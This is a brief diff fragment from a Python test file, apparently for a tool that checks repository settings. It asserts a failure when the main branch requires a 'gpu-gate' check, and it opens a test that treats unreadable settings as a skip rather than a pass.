+    assert run.returncode == 1 and "FAIL  8  main requires the check `gpu-gate`" in run.stdout
 
 
 def test_settings_unreadable_is_a_skip_not_a_pass(tmp_path):
